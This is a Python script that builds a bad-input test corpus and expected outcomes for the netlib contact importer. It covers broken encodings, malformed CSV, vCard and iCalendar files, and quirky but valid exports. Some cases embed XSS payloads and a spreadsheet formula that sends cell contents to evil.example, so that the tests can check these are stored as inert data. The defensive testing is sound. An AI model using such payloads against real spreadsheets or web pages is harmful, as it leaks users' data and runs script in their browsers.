"""Write the bad-input corpus (every file in this folder) and ``cases.json``, its expected outcomes.

Run ``python tests/data/bad/make_corpus.py`` after changing a case; commit its output. Bytes
that are awkward to write by hand (UTF-16, Latin-1, BOMs, CR line endings, binary) are made
here, so every file is reproducible. Each case in ``cases.json``:

``file``, ``kind`` (the ``--kind`` flag or null), ``strict`` (pass ``--strict``), ``exit``,
``stderr`` (substrings of stderr: the file's name, ``:LINE``, a fix word), ``line`` (the line the
one-line error names, or null when the file as a whole is bad), ``skipped`` (lines listed as
skipped or as a dropped value), ``added`` (people added), ``people`` (a few people, by exact
name, with exact field values).
"""

import codecs
import json
import zipfile
from pathlib import Path

HERE = Path(__file__).parent
PREAMBLE = (
    "Notes:\r\n"
    '"When exporting your connection data, you may notice that some of the email addresses are missing."\r\n'
    "\r\n"
)
HEADER = "First Name,Last Name,URL,Email Address,Company,Position,Connected On"
CASES = []

# Names in every script the corpus covers (exact values asserted after import).
SCRIPTS = [
    ("Zoë", "Ångström"),  # Latin with diacritics
    ("Дмитрий", "Иванов"),  # Cyrillic
    ("Ελένη", "Παπαδοπούλου"),  # Greek
    ("محمد", "الأحمد"),  # Arabic (right to left)
    ("אורית", "כהן"),  # Hebrew (right to left)
    ("प्रिया", "शर्मा"),  # Devanagari (combining marks)
    ("明", "王"),  # Han
    ("さくら", "山田"),  # Hiragana + Kanji
    ("지훈", "김"),  # Hangul
    ("สมชาย", "ใจดี"),  # Thai
    ("አበበ", "ቢቂላ"),  # Ethiopic
    ("Nguyễn", "Thị Minh"),  # Vietnamese (stacked diacritics)
    ("Ólafur", "Þórsson"),  # Icelandic
    ("😀 Sam", "Lee 🚀"),  # emoji (astral plane)
]
SCRIPT_NAMES = [f"{f} {l}" for f, l in SCRIPTS]
XSS = '<script>alert("x")</script>'
IMG = "<img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'


def write(name, data, **case):
    """Write one corpus file (str as UTF-8, or bytes as they are) and record its case."""
    path = HERE / name
    path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
    base = dict(file=name, kind=None, strict=False, exit=0, stderr=[], line=None, skipped=[],
                added=None, people=[])
    base.update(case)
    CASES.append(base)
    if case.get("strict_too"):  # the same file again with --strict: refused whole
        del base["strict_too"]
        CASES.append(dict(base, strict=True, exit=1, added=None, people=[], skipped=[],
                          stderr=[name, f":{base['skipped'][0]}:", "without --strict"],
                          line=base["skipped"][0]))


def connections(*rows, header=HEADER, preamble=True, nl="\r\n"):
    return (PREAMBLE.replace("\r\n", nl) if preamble else "") + nl.join([header, *rows]) + nl


def fail(name, data, *stderr, kind=None, line=None):
    write(name, data, kind=kind, exit=1, stderr=[name, *stderr] + ([f"{name}:{line}:"] if line else []),
          line=line)


# -- files that are bad as a whole: exit 1, one line, store unchanged ------------------------
fail("empty.csv", b"", "is empty", "export the data again")
fail("whitespace_only.csv", b"\r\n  \n\t\r\n", "is empty", "export the data again", kind="linkedin")
fail("bom_only.csv", codecs.BOM_UTF8 + b"\r\n", "is empty", "export the data again")
fail("binary.png", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10" + bytes(range(256)),
     "binary file", "export the data as CSV")
fail("binary_as_vcard.vcf", b"BEGIN:VCARD\x00\x01\x02" + bytes(range(256)) * 4, "binary file", "vCard (.vcf)",
     kind="vcard")
# issue 14: UTF-16 without a BOM is text (every other byte NUL), not "binary"
write("utf16_without_bom.csv", connections("Jane,Doe,,,Acme,CEO,25 Nov 2024").encode("utf-16-le"), added=1,
      people=[{"name": "Jane Doe", "company": "Acme"}])
write("utf16be_without_bom.csv", connections("Jane,Doe,,,Acme,CEO,25 Nov 2024").encode("utf-16-be"), added=1,
      people=[{"name": "Jane Doe", "company": "Acme"}])
# issue 14: one stray Latin-1 byte in a UTF-8 file would garble every name read as cp1252
fail("mixed_encodings.csv", connections("Jürgen,Müller,,,Acme,CEO,25 Nov 2024", "Zoë,Ångström,,,Acme,CTO,25 Nov 2024",
                                        "Omar,Haddad,,,Initech,CFO,25 Nov 2024").encode("utf-8")
     + "Ren\xe9,Roy,,,Acme,COO,25 Nov 2024\r\n".encode("latin-1"),
     "mixes encodings", "save the file as UTF-8", line=8)
# issue 14: a NUL byte past the first 8 KiB never reaches a name
write("nul_late.csv", connections(*[f"Filler{i},Person,,,Acme,Eng,25 Nov 2024" for i in range(300)],
                                  "Ja\x00ne,Doe,,,Ac\x00me,CEO,25 Nov 2024"), added=301,
      people=[{"name": "Jane Doe", "company": "Acme"}])
fail("undecodable.csv", b"First Name,Last Name\r\n\x81\x8d\x8f\x90\x9d\xff\xfe,x\r\n",
     "neither UTF-8 nor Windows-1252", "save the file as UTF-8")
fail("unknown_columns.csv", "Name,Phone,Favourite Colour\nJane Doe,+1 555 0100,teal\n",
     "not a file netlib recognises", "use --kind to choose one of: linkedin")
fail("unknown_kind.csv", connections("Jane,Doe,,,Acme,CEO,25 Nov 2024"), "'csv' is not a kind of import",
     "use one of: linkedin", kind="csv")
# wrong format for --kind: the error says what the file looks like and which --kind to use
fail("linkedin_as_vcard.csv", connections("Jane,Doe,,,Acme,CEO,25 Nov 2024"),
     "does not look like a vCard file: it looks like a LinkedIn Connections.csv", "use --kind linkedin",
     kind="vcard")
fail("vcard_as_linkedin.vcf", "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Jane Doe\r\nEND:VCARD\r\n",
     "does not look like a LinkedIn Connections.csv", "use --kind vcard", kind="linkedin")
fail("ics_as_google.ics", "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nEND:VCALENDAR\r\n",
     "does not look like a Google Contacts CSV", "use --kind ics", kind="google")
fail("google_as_outlook.csv", "First Name,Last Name,Labels,E-mail 1 - Value\nJane,Doe,* myContacts,jane@x.example\n",
     "does not look like an Outlook contacts CSV", "use --kind google", kind="outlook")
fail("outlook_as_people.csv", '"First Name","Last Name","E-mail Address"\n"Jane","Doe","jane@x.example"\n',
     "does not look like a netlib people.csv", "use --kind outlook", kind="netlib-people")
fail("text_as_ics.txt", "Call Jane on Monday.\nLunch with Omar.\n", "holds no BEGIN:VCALENDAR line",
     "expected an iCalendar (.ics) file", kind="ics", line=1)
fail("text_as_vcard.txt", "Call Jane on Monday.\nLunch with Omar.\n", "holds no BEGIN:VCARD line",
     "expected a vCard (.vcf) file", kind="vcard", line=1)
# missing or renamed columns: the line of the header, the column, what was expected
fail("linkedin_no_connected_on.csv",
     connections("Jane,Doe,,,Acme,CEO", header="First Name,Last Name,URL,Email Address,Company,Position"),
     "header has no 'Connected On' column", "expected a LinkedIn Connections.csv export", kind="linkedin", line=4)
fail("linkedin_renamed_columns.csv",
     connections("Jane,Doe,,,Acme,CEO,25 Nov 2024",
                 header="Given Name,Surname,URL,Email Address,Company,Position,Connected On"),
     "header has no 'First Name' column", "expected a LinkedIn Connections.csv export", kind="linkedin", line=4)
fail("linkedin_preamble_only.csv", PREAMBLE, "header has no 'Connected On' column",
     "expected a LinkedIn Connections.csv export", kind="linkedin", line=2)
fail("google_no_email_column.csv", "First Name,Last Name,Notes\nJane,Doe,met at PyCon\n",
     "header has no 'First Name' and 'E-mail 1 - Value' columns", "expected a Google Contacts CSV export",
     kind="google", line=1)
fail("outlook_renamed_columns.csv", '"Given","Surname","Mail"\n"Jane","Doe","jane@x.example"\n',
     "header has no 'First Name' and 'E-mail Address' columns", "expected an Outlook contacts CSV export",
     kind="outlook", line=1)
fail("people_no_name.csv", "id,emails,company\n1,jane@x.example,Acme\n", "header has no 'name' column",
     "expected netlib's people.csv with columns id,name", kind="netlib-people", line=1)
fail("interactions_no_with.csv", "id,date,kind,summary\n1,2026-11-20,coffee,talked\n",
     "header has no 'with' column", "expected netlib's interactions.csv", kind="netlib-interactions", line=1)
# a quote that never closes would swallow every later row into one cell
fail("linkedin_unclosed_quote.csv",
     connections('Jane,Doe,,,"Acme, Inc.,CEO,25 Nov 2024', "Omar,Haddad,,,Initech,CTO,26 Nov 2024"),
     "a quoted cell starts on this line and is never closed", 'write a quote inside a cell as two ("")',
     line=5)
fail("google_unclosed_quote.csv",
     'First Name,Last Name,Notes,E-mail 1 - Value,Labels\nJane,Doe,ok,jane@x.example,\nOmar,Haddad,"says hi,omar@x.example,\n',
     "a quoted cell starts on this line and is never closed", "close the quote", line=3)
fail("ics_unterminated.ics",
     "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nUID:1\r\nDTSTART:20261120T100000Z\r\nATTENDEE:mailto:jane@x.example\r\n",
     "no matching END:VCALENDAR", "the file is cut short", line=1)
fail("ics_garbage.ics", "BEGIN:VCALENDAR\r\nthis is not a content line\r\nEND:VCALENDAR\r\n",
     "cannot be read as iCalendar", "export the calendar again as .ics")
fail("zip_broken.zip", b"PK\x03\x04" + b"\x00garbage" * 8, "is not a readable ZIP archive",
     "download the LinkedIn export again", kind="linkedin")

# -- files with a few bad records: good ones land, each bad one listed; --strict refuses ----
write("linkedin_bad_dates.csv", connections(
    "Jane,Doe,https://www.linkedin.com/in/jane-doe,,Acme,CEO,25 Nov 2024",
    "Bad,Month,,,Acme,CTO,31 Foo 2024",
    "Bad,Iso,,,Acme,CFO,2024-13-45",
    "Bad,Slash,,,Acme,COO,13/25/2024",
    "Bad,Day,,,Acme,CIO,31 Feb 2025",
    "Omar,Haddad,,,Initech,CTO,01-Jul-25",
), stderr=["'Connected On' is '31 Foo 2024', expected a date like '25 Nov 2024'", "'2024-13-45'",
           "'13/25/2024'", "'31 Feb 2025'"],
   skipped=[6, 7, 8, 9], added=2, strict_too=True,
   people=[{"name": "Jane Doe", "since": "2024-11-25", "position": "CEO"},
           {"name": "Omar Haddad", "since": "2025-07-01"}])
write("linkedin_locale_dates.csv", connections(
    "Lena,Vogel,,,Siemens,Ingenieurin,25. Okt. 2024",
    "Jonas,Weber,,,SAP,Entwickler,1 März 2025",
    "Anna,Schmidt,,,Bosch,Leiterin,3 Dez 2023",
    "Marie,Dubois,,,Thales,Ingénieure,3 mars 2025",
    "Lucía,García,,,Indra,Ingeniera,12 dic 2024",
    "Kenji,Sato,,,Sony,Engineer,2024年11月25日",
    "Ambiguous,Slash,,,Acme,CEO,11/03/2024",
    "Ana,Silva,,,Acme,CEO,Nov 25 2024",
    header="Vorname,Nachname,URL,E-Mail-Adresse,Unternehmen,Position,Verbunden am",
), stderr=["'3 mars 2025'", "'12 dic 2024'", "'2024年11月25日'", "'11/03/2024'"],
   skipped=[8, 9, 10, 11], added=4, strict_too=True,
   people=[{"name": "Lena Vogel", "since": "2024-10-25", "company": "Siemens"},
           {"name": "Jonas Weber", "since": "2025-03-01"},
           {"name": "Anna Schmidt", "since": "2023-12-03"},
           {"name": "Ana Silva", "since": "2024-11-25"}])
write("linkedin_hidden_members.csv", connections(
    ",,,,,,01 Sep 2026", "Jane,Doe,,,Acme,CEO,25 Nov 2024", ",,,,,,02 Sep 2026",
), stderr=["a hidden member"], skipped=[5, 7], added=1, strict_too=True,
   people=[{"name": "Jane Doe", "company": "Acme"}])
write("vcard_one_bad_card.vcf",
      "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Jane Doe\r\nEMAIL:jane@x.example\r\nEND:VCARD\r\n"
      "BEGIN:VCARD\r\nVERSION:3.0\r\nFN;;;:\x01broken\r\nEND:VCARD\r\n"
      "BEGIN:VCARD\r\nVERSION:3.0\r\nEND:VCARD\r\n"
      "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Omar Haddad\r\nBDAY:not a date\r\nORG:Initech\r\nEND:VCARD\r\n",
      stderr=["card does not parse", "card has no name, email or organisation", "BDAY is 'not a date'"],
      skipped=[6, 10, 13], added=2, strict_too=True,
      people=[{"name": "Jane Doe", "emails": ["jane@x.example"]},
              {"name": "Omar Haddad", "company": "Initech", "birthday": None}])
write("ics_bad_events.ics",
      "BEGIN:VCALENDAR\r\nVERSION:2.0\r\n"
      "BEGIN:VEVENT\r\nUID:bad-date\r\nSUMMARY:Bad date\r\nDTSTART:20261301T100000Z\r\n"
      "ATTENDEE;CN=Lost One:mailto:lost@x.example\r\nEND:VEVENT\r\n"
      "BEGIN:VEVENT\r\nUID:bad-rule\r\nSUMMARY:Bad rule\r\nDTSTART:20261101T100000Z\r\nRRULE:FREQ=SOMETIMES\r\n"
      "ATTENDEE;CN=Lost Two:mailto:lost2@x.example\r\nEND:VEVENT\r\n"
      "BEGIN:VEVENT\r\nUID:no-start\r\nSUMMARY:No start\r\nATTENDEE:mailto:lost3@x.example\r\nEND:VEVENT\r\n"
      "BEGIN:VEVENT\r\nUID:good\r\nSUMMARY:Coffee\r\nDTSTART:20261120T100000Z\r\n"
      "ATTENDEE;CN=Jane Doe:mailto:jane@x.example\r\nEND:VEVENT\r\n"
      "END:VCALENDAR\r\n",
      stderr=["event 'Bad date' has an unreadable DTSTART", "event 'Bad rule' has an unreadable RRULE",
              "event 'No start' has no DTSTART"],
      skipped=[3, 9, 16], added=1, strict_too=True,
      people=[{"name": "Jane Doe", "emails": ["jane@x.example"]}])
write("ics_hostile_series.ics",  # issue 14: none of these may sink the file or flood the store
      "BEGIN:VCALENDAR\rVERSION:2.0\rX-WR-TIMEZONE:W. Europe Standard Time\r"  # CR-only line ends
      "BEGIN:VEVENT\rUID:fast\rSUMMARY:Ticker\rDTSTART:20261101T100000Z\rRRULE:FREQ=SECONDLY\r"
      "ATTENDEE;CN=Tick Tock:mailto:tick@x.example\rEND:VEVENT\r"
      "BEGIN:VEVENT\rUID:far\rSUMMARY:Far\rDTSTART:99991231T100000Z\r"
      "ATTENDEE;CN=Lost One:mailto:lost@x.example\rEND:VEVENT\r"
      "BEGIN:VEVENT\rUID:cut\rSUMMARY:Cut\rDTSTART:20261102T100000Z\r"
      "ATTENDEE;CN=Lost Two:mailto:lost2@x.example\r"
      "BEGIN:VEVENT\rUID:good\rSUMMARY:Coffee\rDTSTART:20261120T100000Z\r"
      "ATTENDEE;CN=Jane Doe:mailto:jane@x.example\rEND:VEVENT\r"
      "END:VCALENDAR\r",
      stderr=["more often than daily (FREQ=SECONDLY)", "in the year 9999", "event 'Cut' has no END:VEVENT"],
      skipped=[4, 11, 17], added=2, strict_too=True,
      people=[{"name": "Jane Doe", "emails": ["jane@x.example"]}, {"name": "Tick Tock"}])
write("ics_misshapen_events.ics",
      "BEGIN:VCALENDAR\r\nVERSION:2.0\r\n"
      "BEGIN:VEVENT\r\nUID:twice\r\nUID:twice-again\r\nSUMMARY:Two UIDs\r\nDTSTART:20261101T100000Z\r\n"
      "ATTENDEE:mailto:lost@x.example\r\nEND:VEVENT\r\n"
      "BEGIN:VEVENT\r\nUID:dur\r\nSUMMARY:Odd duration\r\nDTSTART:20261102T100000Z\r\n"
      "DURATION:20261102T110000Z\r\nATTENDEE:mailto:lost2@x.example\r\nEND:VEVENT\r\n"
      "BEGIN:VEVENT\r\nUID:empty\r\nSUMMARY:Empty start\r\nDTSTART:\r\nATTENDEE:mailto:lost3@x.example\r\n"
      "END:VEVENT\r\n"
      "BEGIN:VEVENT\r\nUID:good\r\nSUMMARY:Coffee\r\nDTSTART:20261120T100000Z\r\n"
      "ATTENDEE;CN=Jane Doe:mailto:jane@x.example\r\nEND:VEVENT\r\n"
      "END:VCALENDAR\r\n",
      stderr=["event 'Two UIDs' has an unreadable UID (it appears 2 times, expected once)",
              "event 'Odd duration' has an unreadable DURATION ('20261102T110000Z' is not a duration)",
              "event 'Empty start' has an unreadable DTSTART"],
      skipped=[3, 10, 17], added=1, strict_too=True,
      people=[{"name": "Jane Doe", "emails": ["jane@x.example"]}])
write("google_bad_birthday.csv",
      "First Name,Last Name,Birthday,E-mail 1 - Value,Labels\nJane,Doe,31/31/1990,jane@x.example,* myContacts\n"
      "Omar,Haddad,1990-03-14,omar@x.example,\n",
      stderr=["'Birthday' is '31/31/1990', expected a date like '1990-03-14'"], skipped=[2], added=2,
      strict_too=True,
      people=[{"name": "Jane Doe", "birthday": None}, {"name": "Omar Haddad", "birthday": "1990-03-14"}])
write("google_duplicates.csv",
      "First Name,Last Name,E-mail 1 - Value,Labels\nJane,Doe,jane@x.example,\nJane,Doe,jane@x.example,\n"
      "Janet,Doe,JANE@X.EXAMPLE,\n",
      stderr=["a second contact with the key email:jane@x.example (first on line 2)"], skipped=[3, 4], added=1,
      strict_too=True, people=[{"name": "Jane Doe", "emails": ["jane@x.example"]}])
write("people_bad_values.csv",
      "id,name,emails,birthday,ring,cadence_days\n1,Jane Doe,jane@x.example,--03-14,2,30\n"
      "2,Ring Zero,,,0,\n3,Ring Huge,,,99999999999999999999999,\n4,Cadence Negative,,,,-5\n"
      "5,Leap Less,,1990-02-30,,\n6,Dup Id,,,,\n6,Dup Id Again,,,,\n",
      kind="netlib-people",
      stderr=["'ring' is '0', expected a whole number from 1 to 6", "'99999999999999999999999'",
              "'cadence_days' is '-5'", "'birthday' is '1990-02-30'", "repeats line 7"],
      skipped=[3, 4, 5, 6, 8], added=2, strict_too=True,
      people=[{"name": "Jane Doe", "birthday": "--03-14", "ring_override": 2, "cadence_override": 30},
              {"name": "Dup Id"}])
write("interactions_unknown_person.csv",
      "id,date,kind,direction,with,summary\n1,2026-11-20,coffee,out,ada@prefill.example,talked\n"
      "2,2026-11-21,call,,nobody@nowhere.example,who?\n",
      kind="netlib-interactions", stderr=["no person with email nobody@nowhere.example"], skipped=[3],
      added=0, strict_too=True)

# -- good but quirky: exit 0, exact values, a second import changes nothing ---------------
JANE = "Jane,Doe,https://www.linkedin.com/in/jane-doe/,,\"Acme, Inc.\",Head of Research,25 Nov 2024"
OMAR = "Omar,Haddad,http://UK.linkedin.com/in/Omar-Haddad?trk=abc,omar@x.example,Initech,CTO,01-Jul-25"
ZOE = "Zoë,Ångström,,,Société Générale,Directrice Général,3 Dec 2023"
GOOD = [{"name": "Jane Doe", "company": "Acme, Inc.", "position": "Head of Research", "since": "2024-11-25",
         "linkedin_url": "https://www.linkedin.com/in/jane-doe"},
        {"name": "Omar Haddad", "emails": ["omar@x.example"], "since": "2025-07-01",
         "linkedin_url": "https://www.linkedin.com/in/omar-haddad"},
        {"name": "Zoë Ångström", "company": "Société Générale", "since": "2023-12-03"}]
text = connections(JANE, OMAR, ZOE)
write("linkedin_bom_crlf.csv", codecs.BOM_UTF8 + text.encode(), added=3, people=GOOD)
write("linkedin_lf.csv", connections(JANE, OMAR, ZOE, nl="\n"), added=3, people=GOOD)
write("linkedin_cr_only.csv", connections(JANE, OMAR, ZOE, nl="\r"), added=3, people=GOOD)
write("linkedin_mixed_endings.csv",
      (PREAMBLE + HEADER + "\n" + JANE + "\r" + OMAR + "\r\n" + ZOE).encode(), added=3, people=GOOD)
write("linkedin_utf16le_bom.csv", codecs.BOM_UTF16_LE + text.encode("utf-16-le"), added=3, people=GOOD)
write("linkedin_utf16be_bom.csv", codecs.BOM_UTF16_BE + text.encode("utf-16-be"), added=3, people=GOOD)
write("linkedin_latin1.csv", text.encode("latin-1"), added=3, people=GOOD)
write("linkedin_extra_columns.csv", connections(
    "Acme Inc.,25 Nov 2024,Doe,+1 555 0100,Jane,https://www.linkedin.com/in/jane-doe,Head of Research,,x",
    "Initech,01-Jul-25,Haddad,,Omar,http://UK.linkedin.com/in/Omar-Haddad?trk=abc,CTO,omar@x.example",
    header="Company,Connected On,Last Name,Phone,First Name,URL,Position,Email Address,Extra",
), added=2, people=[{"name": "Jane Doe", "company": "Acme Inc.", "since": "2024-11-25", "phones": []},
                    {"name": "Omar Haddad", "emails": ["omar@x.example"], "position": "CTO"}])
write("linkedin_duplicates.csv", connections(
    JANE, JANE, JANE.replace("jane-doe/", "Jane-Doe?trk=public_profile"), OMAR, OMAR,
), added=2, people=GOOD[:2])
LONG_POSITION = "Principal Engineer; " * 10_000  # 200,000 characters: over the csv module's 128 KiB
LONG_NAME = "Maximilian" + "a" * 2_000
write("linkedin_long_fields.csv", connections(
    f"{LONG_NAME},Doe,,,\"{'Acme ' * 1000}\",\"{LONG_POSITION}\",25 Nov 2024", OMAR,
), added=2, people=[{"name": f"{LONG_NAME} Doe", "company": ("Acme " * 1000).strip(),
                     "position": LONG_POSITION.strip()},
                    {"name": "Omar Haddad"}])
write("linkedin_scripts.csv", connections(*[
    f"{f},{l},https://www.linkedin.com/in/script-{i},,Company {i},Role {i},25 Nov 2024"
    for i, (f, l) in enumerate(SCRIPTS)
]), added=len(SCRIPTS), people=[{"name": n, "company": f"Company {i}"} for i, n in enumerate(SCRIPT_NAMES)])
cards = "".join(
    f"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:{f} {l}\r\nN:{l};{f};;;\r\nEMAIL:script{i}@x.example\r\n"
    f"ORG:Firma {f}\r\nNOTE:Met {f} in {l}\\, twice\r\nEND:VCARD\r\n" for i, (f, l) in enumerate(SCRIPTS)
)
write("vcard_scripts_bom.vcf", codecs.BOM_UTF8 + cards.encode(), added=len(SCRIPTS),
      people=[{"name": n, "emails": [f"script{i}@x.example"], "company": f"Firma {SCRIPTS[i][0]}",
               "notes": f"Met {SCRIPTS[i][0]} in {SCRIPTS[i][1]}, twice"} for i, n in enumerate(SCRIPT_NAMES)])
write("vcard_utf16.vcf", codecs.BOM_UTF16_LE + cards.encode("utf-16-le"), added=len(SCRIPTS),
      people=[{"name": SCRIPT_NAMES[3]}, {"name": SCRIPT_NAMES[-1]}])
attendees = "".join(
    f'ATTENDEE;CN="{f} {l}";PARTSTAT=ACCEPTED:mailto:att{i}@x.example\r\n' for i, (f, l) in enumerate(SCRIPTS[:6])
)
folded = "SUMMARY:" + "Квартальный обзор — 四半期レビュー — مراجعة ربع سنوية 🚀"
write("ics_scripts.ics", (
    "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nUID:review\r\nDTSTART:20261120T100000Z\r\n"
    + folded[:40] + "\r\n " + folded[40:] + "\r\n" + attendees + "END:VEVENT\r\nEND:VCALENDAR\r\n"
).encode(), added=6, people=[{"name": n, "emails": [f"att{i}@x.example"]} for i, n in enumerate(SCRIPT_NAMES[:6])])
write("outlook_cp1252.csv", (
    '"First Name","Last Name","Company","Job Title","E-mail Address","Birthday","Categories","Notes"\r\n'
    '"Zoë","Ångström","Café Crème","Directrice","zoe@x.example","0/0/00","VIP;Paris","Owes me 5 €, “soon”"\r\n'
).encode("cp1252"), added=1,
   people=[{"name": "Zoë Ångström", "company": "Café Crème", "tags": ["Paris", "VIP"],
            "notes": "Owes me 5 €, “soon”", "birthday": None}])
write("google_multiline_notes.csv",
      'First Name,Last Name,Notes,E-mail 1 - Value,Labels\r\nJane,Doe,"line one\r\nline two, with ""quotes""\r\n'
      'line three",jane@x.example,* myContacts ::: Friends\r\nOmar,Haddad,,omar@x.example,\r\n',
      added=2, people=[{"name": "Jane Doe", "notes": 'line one\r\nline two, with "quotes"\r\nline three',
                        "tags": ["Friends"]}, {"name": "Omar Haddad"}])
# HTML, script and formulas are data: stored exactly as written (escaping happens on output)
write("linkedin_html.csv", connections(
    f'"{XSS.replace(chr(34), 2 * chr(34))}",{IMG},,,"{FORMULA.replace(chr(34), 2 * chr(34))}",'
    '<b onmouseover=alert(2)>Boss</b>,25 Nov 2024',
), added=1, people=[{"name": f"{XSS} {IMG}", "company": FORMULA, "position": "<b onmouseover=alert(2)>Boss</b>"}])
write("people_html.csv",
      "id,name,emails,company,position,tags,notes\n"
      f'1,"{XSS.replace(chr(34), 2 * chr(34))}",xss@x.example,{IMG},"{FORMULA.replace(chr(34), 2 * chr(34))}",'
      f'"{IMG};+tag;@tag",-2+3\n',
      kind="netlib-people", added=1,
      people=[{"name": XSS, "company": IMG, "position": FORMULA, "tags": ["+tag", IMG, "@tag"], "notes": "-2+3"}])

# a LinkedIn export ZIP with Connections.csv (BOM, CRLF) in a subfolder
zpath = HERE / "linkedin_export.zip"
with zipfile.ZipFile(zpath, "w") as zf:
    zf.writestr(zipfile.ZipInfo("Basic_LinkedInDataExport/Connections.csv", (2026, 11, 1, 0, 0, 0)),
                codecs.BOM_UTF8 + text.encode())
CASES.append(dict(file=zpath.name, kind=None, strict=False, exit=0, stderr=[], line=None, skipped=[], added=3,
                  people=GOOD))

(HERE / "cases.json").write_text(json.dumps(CASES, indent=1, ensure_ascii=False) + "\n", encoding="utf-8")
print(f"wrote {len(CASES)} cases")
